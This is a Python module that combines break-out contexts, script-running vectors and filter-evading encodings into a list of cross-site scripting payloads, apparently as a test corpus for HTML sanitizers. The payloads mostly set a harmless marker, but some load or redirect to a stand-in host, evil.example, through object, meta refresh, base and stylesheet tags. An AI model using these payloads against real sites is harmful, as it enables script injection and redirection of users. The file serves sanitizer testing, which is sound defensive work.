"""Scripts that are made by rule: what they break out of, what they would run, and how it is written down."""

import html
import re
from collections.abc import Callable
from itertools import product
from urllib.parse import quote

RAN = "document.documentElement.dataset.ran=1"
# What ends the element, attribute or text that a value may stand in.
CONTEXTS = [
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "]]>",
    '";`',
    "<a title='",
    "<svg><desc><![CDATA[",
    "<math><mtext><table><mglyph><style>",
]
# What runs, loads, sends or leads elsewhere.
VECTORS = [
    f"<script>{RAN}</script>",
    f"<script src=data:,{RAN}></script>",
    f"<img src=x onerror={RAN}>",
    f"<svg onload={RAN}>",
    f"<svg><animate onbegin={RAN} attributeName=x>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<a href=javascript:{RAN}>x</a>",
    f"<form action=javascript:{RAN}><button>x</button></form>",
    "<object data=//evil.example/></object>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    f" autofocus onfocus={RAN} x=",
]
# As it stands, and as whatever decodes once too often would make it that again.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "large letters": lambda text: re.sub(r"<\w+", lambda tag: tag[0].upper(), text),
    "slashes for spaces": lambda text: text.replace(" ", "/"),
    "named": html.escape,
    "decimal": lambda text: re.sub(r"[<>\"'=:]", lambda each: f"&#{ord(each[0])};", text),
    "hexadecimal, without an end": lambda text: re.sub(
        r"[<>\"'=:]", lambda each: f"&#x{ord(each[0]):x}", text
    ),
    "of an address": lambda text: quote(text, safe=""),
    "of an address, twice": lambda text: quote(quote(text, safe=""), safe=""),
    "of a script": lambda text: re.sub(r"[<>\"'=:]", lambda each: f"\\u{ord(each[0]):04x}", text),
    "as wide as Chinese": lambda text: re.sub(r"[<>\"'=:]", lambda each: chr(ord(each[0]) + 0xFEE0), text),
    "with nothing to see in it": lambda text: text.replace("<", "<\u200b"),
}


def every_payload() -> list[str]:
    """Make each of them: all that is broken out of, with all that runs, in all ways of writing it."""
    return [
        write(context + vector) for context, vector, write in product(CONTEXTS, VECTORS, ENCODINGS.values())
    ]


def some_payloads() -> list[str]:
    """Make so many that each place to break out of meets each of what runs, plainly and written otherwise."""
    writes = list(ENCODINGS.values())
    pairs = [context + vector for context, vector in product(CONTEXTS, VECTORS)]
    return [*pairs, *(writes[1 + number % (len(writes) - 1)](pair) for number, pair in enumerate(pairs))]
